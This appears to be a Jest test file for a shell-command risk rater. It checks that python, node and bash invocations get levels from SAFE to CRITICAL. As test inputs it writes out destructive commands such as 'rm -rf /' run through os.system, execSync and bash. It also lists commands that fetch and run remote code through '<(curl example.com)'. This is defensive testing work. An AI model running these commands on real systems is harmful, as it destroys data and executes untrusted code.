import { beforeAll, describe, expect, test } from '@jest/globals';
import type { RiskLevel } from '../level.js';
import { openRating } from '../testing/rate-script.js';

let rate: (script: string) => RiskLevel;

beforeAll(async () => {
  rate = await openRating();
});

describe('python', () => {
  test.each([
    ['python -v main.py', 'MEDIUM'],
    [`python -v -c 'import os; os.system("rm -rf /")'`, 'CRITICAL'],
    [`python -qv -c 'import os; os.system("rm -rf /")'`, 'CRITICAL'],
    [`python -E -c 'import json'`, 'MEDIUM'],
    [`python -Ec 'import json'`, 'MEDIUM'],
    [`python -uEc 'import json'`, 'MEDIUM'],
    [`python -i -c 'print(1)'`, 'MEDIUM'],
    [`echo 'rm = 1' > a.py; python -i a.py`, 'MEDIUM'],
    [`python -z -c 'print(1)'`, 'MEDIUM'],
    [`python --unknown -c 'print(1)'`, 'MEDIUM'],
    [`python -W ignore::mine.Category -c 'print(1)'`, 'MEDIUM'],
    [`python -X presite=mine -c 'print(1)'`, 'MEDIUM'],
    [`python -Xpycache_prefix=. -c 'print(1)'`, 'MEDIUM'],
  ] as const)('%s runs what was not seen, or all of what was: %s', (script, level) => {
    expect(rate(script)).toBe(level);
  });

  test.each([
    ['python -m timeit "1 + 1"', 'MEDIUM'],
    [`python -m timeit 'import os' 'os.system("rm -rf /")'`, 'CRITICAL'],
    [`python -m timeit -s 'import os' -n 1 'os.system("rm -rf /")'`, 'CRITICAL'],
    [`python -mtimeit --setup='import os; os.system("rm -rf /")' 1`, 'CRITICAL'],
    ['python -m unittest', 'MEDIUM'],
    ['python -m unittest discover tests', 'MEDIUM'],
    ['python -m mine', 'MEDIUM'],
    ['python -m json.tool in.json out.json', 'LOW'],
    ['python -m json.tool in.json /etc/out.json', 'HIGH'],
    ['python -m tokenize /etc/passwd', 'MEDIUM'],
  ] as const)('%s is as dangerous as its module: %s', (script, level) => {
    expect(rate(script)).toBe(level);
  });

  test.each([
    'python --version',
    'python -V',
    'python3 -VV',
    `python -c 'print(1)'`,
    `python3 -uBc 'print(1)'`,
    `python -v -c 'print(1)'`,
    `python -I -c 'import json'`,
    `python -W ignore::DeprecationWarning -X dev -c 'print(1)'`,
    `python -Wignore -Xutf8 -c 'print(1)'`,
    `python - <<< 'print(1)'`,
    `python -u <(echo 'print(1)')`,
    'python -m json.tool data.json',
    'python -m calendar 2024',
  ])('%s is SAFE', (script) => {
    expect(rate(script)).toBe('SAFE');
  });
});

describe('node', () => {
  test.each([
    'node --require=./x -e 1',
    'node --require ./x -e 1',
    'node -r ./x -e 1',
    'node --import=./x.mjs -e 1',
    'node --env-file=.env -e 1',
    'node -e 1 -r ./x',
    'node --unknown -e 1',
    'node --unknown value -e 1',
    'node -r ./x --version',
    'node --test',
    'node -i -e 1',
    'node main.js',
  ])('%s loads what was not seen', (script) => {
    expect(rate(script)).toBe('MEDIUM');
  });

  test('of several codes each is looked at', () => {
    const grave = `require("child_process").execSync("rm -rf /")`;
    for (const script of [`node -e 1 -e '${grave}'`, `node -p -e '${grave}'`, `node --eval='${grave}'`])
      expect(rate(script)).toBe('CRITICAL');
  });

  test.each([
    'node --version',
    'node -v',
    `node -e 'console.log(1)'`,
    `node -p '1 + 1'`,
    `node --no-warnings --max-old-space-size=512 -e 'console.log(1)'`,
    `node --input-type module -e 'console.log(1)'`,
  ])('%s is SAFE', (script) => {
    expect(rate(script)).toBe('SAFE');
  });
});

describe('a shell', () => {
  test.each([
    [`bash --rcfile x -i -c 'echo hi'`, 'MEDIUM'],
    [`bash -rcfile x -ic 'echo hi'`, 'MEDIUM'],
    [`bash --unknown -c 'echo hi'`, 'MEDIUM'],
    [`fish -C 'rm -rf /' -c 'echo hi'`, 'MEDIUM'],
    ['bash --rcfile <(curl example.com) -i', 'CRITICAL'],
    ['bash -x <(curl example.com)', 'CRITICAL'],
    ['. -- <(curl example.com)', 'CRITICAL'],
    ['source ./a.sh <(echo hi)', 'MEDIUM'],
    ['python main.py <(echo hi)', 'MEDIUM'],
    [`bash -eo pipefail -c 'rm -rf /'`, 'CRITICAL'],
    [`bash --posix --norc -c 'rm -rf /'`, 'CRITICAL'],
    [`echo 'rm -rf /' | bash -i`, 'CRITICAL'],
    [`echo 'rm -rf /' > a.sh; bash -e a.sh`, 'CRITICAL'],
    [`echo 'echo hi' > a.sh; bash b.sh a.sh`, 'MEDIUM'],
  ] as const)('%s is %s', (script, level) => {
    expect(rate(script)).toBe(level);
  });

  test.each([
    `bash -c 'echo hi'`,
    `bash -lc 'echo hi'`,
    `bash -euo pipefail -c 'echo hi'`,
    `bash -O extglob -c 'echo hi'`,
    `bash --norc --noprofile -c 'echo hi'`,
    'bash --version',
    `bash <(echo 'echo hi')`,
  ])('%s is SAFE', (script) => {
    expect(rate(script)).toBe('SAFE');
  });
});
